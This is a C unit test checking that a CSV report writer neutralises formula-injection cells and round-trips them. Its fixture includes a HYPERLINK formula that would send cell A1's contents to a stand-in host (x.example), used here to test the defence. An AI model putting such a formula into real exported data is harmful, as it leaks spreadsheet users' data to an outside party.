/*
 * test_csv_formula.c — CSV injection: cells a spreadsheet would run as a
 * formula (= + - @, a leading tab or CR) leave the writer after an
 * apostrophe, and a reader of our own files (strip_apostrophe) gets every
 * cell back exactly.  Reports and the catalogue export use this writer.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <string.h>
#include "report/csv.h"

static const char *const cells[] = {
	"=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+84 912 345 678", "-1", "@SUM(A1:A9)",
	"\t=1+1", "\r=2", "'đã có nháy", "Đăng ký khai sinh", "", "a=b", "1.001193",
};
#define NCELLS (sizeof cells / sizeof cells[0])

static void
test_neutralised(void **state)
{
	(void)state;
	struct buf out = BUF_INIT;
	csv_write_row_const(&out, cells, NCELLS);
	const char *want = "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",'+84 912 345 678,"
	                   "'-1,'@SUM(A1:A9),\"'\t=1+1\",\"'\r=2\",''đã có nháy,Đăng ký khai sinh,,a=b,"
	                   "1.001193\r\n";
	assert_string_equal(buf_str(&out), want);
	buf_free(&out);
}

static void
test_round_trip(void **state)
{
	(void)state;
	struct buf out = BUF_INIT;
	csv_write_row_const(&out, cells, NCELLS);
	struct csv_reader r;
	csv_reader_init(&r, out.data, out.len);
	r.strip_apostrophe = 1;
	char **got, detail[128];
	size_t n, line;
	assert_int_equal(csv_read_row(&r, &got, &n, &line, detail, sizeof detail), 1);
	assert_int_equal(n, NCELLS);
	for (size_t i = 0; i < n; i++)
		assert_string_equal(got[i], cells[i]);
	csv_free_row(got, n);
	buf_free(&out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_neutralised),
		cmocka_unit_test(test_round_trip),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
